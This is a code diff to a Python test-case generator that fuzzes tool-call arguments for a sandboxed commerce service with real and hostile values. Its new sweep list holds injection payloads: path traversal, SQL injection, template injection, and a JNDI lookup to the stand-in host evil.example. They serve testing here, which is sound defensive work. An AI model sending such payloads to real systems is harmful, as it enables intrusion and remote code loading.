@@ -46,6 +46,7 @@ UNICODE = (
     "\U0001f437\U0001f4b8\U0001f525",  # emoji
     "\U0001f469\u200d\U0001f469\u200d\U0001f467",  # ZWJ sequence
     "a\u0000b",  # NUL
+    "x\ud800y",  # a lone surrogate: JSON can carry it (json.loads gives one), UTF-8 cannot
     "\u0000",
     "e\u0301\u0301\u0301\u0301",  # combining marks
     "Z\u0334\u0321\u031b\u0353a\u0338l\u0337g\u0338o\u0336",
@@ -95,17 +96,18 @@ class Case:
 
 # -- pools of real values ----------------------------------------------------------------------------------------
 
-_KIND_BY_FIELD = {"giftcard_transaction_uuid": "giftcard_transaction", "webhook_subscription_uuid": "webhook_subscription"}
+_KIND_BY_FIELD = {
+    "giftcard_transaction_uuid": "giftcard_transaction",
+    "webhook_subscription_uuid": "webhook_subscription",
+}
 
 
 def real_values(sandbox: Sandbox, attribute_names: list[str]) -> dict[str, list[Any]]:
     """Real values by argument name, read from the sandbox's own store, so valid calls reach real objects."""
     pool: dict[str, list[Any]] = {"attributes": list(attribute_names)}
     with sandbox.store.tx() as tx:
-        kinds = [row[0] for row in tx._conn.execute("SELECT DISTINCT kind FROM docs")]
-        for kind in kinds:
-            docs = tx.all(kind)
-            pool[f"{kind}_uuid"] = [d["uuid"] for d in docs][:50]
+        for kind, doc in tx.find_any():
+            pool.setdefault(f"{kind}_uuid", []).append(doc["uuid"])
         pool["email"] = [d["email"] for d in tx.all("contact") if d.get("email")]
         pool["contact_identifier_value"] = [d["value"] for d in tx.all("contact_identifier")]
         pool["code"] = [d["code"] for d in tx.all("voucher")]
@@ -130,7 +132,7 @@ def branches(node: Schema, root: Schema) -> tuple[list[Schema], bool]:
     """The non-null alternatives of a node and whether null is allowed."""
     node = resolve(node, root)
     options = [resolve(o, root) for o in node.get("anyOf", [node])]
-    nullable = any(o.get("type") == "null" for o in options) or "default" in node and node["default"] is None
+    nullable = any(o.get("type") == "null" for o in options) or ("default" in node and node["default"] is None)
     return [o for o in options if o.get("type") != "null"], nullable
 
 
@@ -153,6 +155,7 @@ def _text(node: Schema, name: str, pool: dict[str, list[Any]]) -> st.SearchStrat
     fits: Callable[[str], bool] = lambda s: len(s) >= lo and (hi is None or len(s) <= hi)  # noqa: E731
     hostile = [s for s in (*HOSTILE_TEXT, *HUGE_TEXT) if fits(s)]
     options: list[st.SearchStrategy[str]] = [
+        st.sampled_from(hostile),
         st.sampled_from(hostile),
         st.text(min_size=lo, max_size=min(int(hi or 40), 40)),
     ]
@@ -325,10 +328,12 @@ def cases_for(schema: Schema, pool: dict[str, list[Any]]) -> st.SearchStrategy[C
     return valid.flatmap(mutate)
 
 
-def example_value(node: Schema, root: Schema, name: str) -> Any:
-    """One plain valid value for a node (the base that single-field mutations start from)."""
+def example_value(node: Schema, root: Schema, name: str, pool: dict[str, list[Any]] | None = None) -> Any:
+    """One plain valid value for a node (the base that single-field mutations start from); real when known."""
     options, _ = branches(node, root)
     node = options[0] if options else {}
+    if pool and pool.get(name) and node.get("type") == "string":
+        return pool[name][0]
     if "enum" in node:
         return node["enum"][0]
     kind = node.get("type")
@@ -353,7 +358,72 @@ def example_value(node: Schema, root: Schema, name: str) -> Any:
     return None
 
 
-def example_args(schema: Schema, root: Schema) -> dict[str, Any]:
+def example_args(schema: Schema, root: Schema, pool: dict[str, list[Any]] | None = None) -> dict[str, Any]:
     """The required arguments only, each with a plain valid value."""
     props: dict[str, Schema] = schema.get("properties", {})
-    return {n: example_value(props[n], root, n) for n in schema.get("required", [])}
+    return {n: example_value(props[n], root, n, pool) for n in schema.get("required", [])}
+
+
+SWEEP_SHORT = (
+    "../",
+    "%2e%2e/",
+    "?",
+    "#",
+    "' OR 1=1 --",
+    "{{7*7}}",
+    "${jndi:ldap://evil.example/a}",
+    "\u202eevil\u202c",
+)
+SWEEP_SHORT += ("\U0001f437\U0001f4b8", "a\u0000b", "x\ud800y", "e\u0301\u0301\u0301", "", HUGE)
+ODD_IDS = ("not-a-uuid", "A" * 128, "00000000-0000-0000-0000-000000000000", "4B62B557-7D2B-5D9F-B2B8-21835BCBE7C6")
+
+
+def hostile_sweep(schema: Schema, root: Schema, pool: dict[str, list[Any]], full: bool) -> list[Case]:
+    """Every free-text field with every hostile text, and every id field with odd but well-formed ids, on a real base.
+
+    A value that no longer fits the schema (too long, empty) is an ``invalid`` case; the rest are ``valid`` ones.
+    """
+    base = example_args(schema, root, pool)
+    texts = (*HOSTILE_TEXT, *HUGE_TEXT) if full else SWEEP_SHORT
+    cases = []
+    for name, node in schema.get("properties", {}).items():
+        options, _ = branches(node, root)
+        strings = [o for o in options if o.get("type") == "string" and "enum" not in o and o.get("format") != "email"]
+        if not strings or len(options) != len(strings):
+            continue
+        string_node = strings[0]
+        values = ODD_IDS if string_node.get("format") == "uuid" else texts
+        lo, hi = int(string_node.get("minLength", 0)), string_node.get("maxLength")
+        for value in values:
+            fits = len(value) >= lo and (hi is None or len(value) <= hi)
+            cases.append(Case({**base, name: value}, "valid" if fits else "invalid", name, "hostile text"))
+    return cases
+
+
+def plain_args(schema: Schema, pool: dict[str, list[Any]], rng: Any) -> dict[str, Any]:
+    """A quick valid-looking call from real values, without Hypothesis: required fields always, optional ones
+    sometimes; amounts small and often negative (to reach the destructive side of money tools)."""
+    out: dict[str, Any] = {}
+    required = set(schema.get("required", []))
+    for name, node in schema.get("properties", {}).items():
+        if name not in required and rng.random() < 0.7:
+            continue
+        options, _ = branches(node, schema)
+        option = options[0] if options else {}
+        kind = option.get("type")
+        if pool.get(name) and kind == "string":
+            out[name] = rng.choice(pool[name])
+        elif kind == "integer":
+            lo, hi = option.get("minimum", -(10**9)), option.get("maximum", 10**9)
+            small = [
+                v for v in (-500, -100, -1, 1, 5, 100) if lo <= v <= hi and v > option.get("exclusiveMinimum", lo - 1)
+            ]
+            out[name] = rng.choice(small or [lo])
+        else:
+            out[name] = example_value(node, schema, name, pool)
+    return out
+
+
+def realistic_args(schema: Schema, pool: dict[str, list[Any]]) -> st.SearchStrategy[dict[str, Any]]:
+    """Calls a careful model would make: real ids and values, small amounts (so approved ones really write)."""
+    return st.randoms(use_true_random=False).map(lambda rng: plain_args(schema, pool, rng))
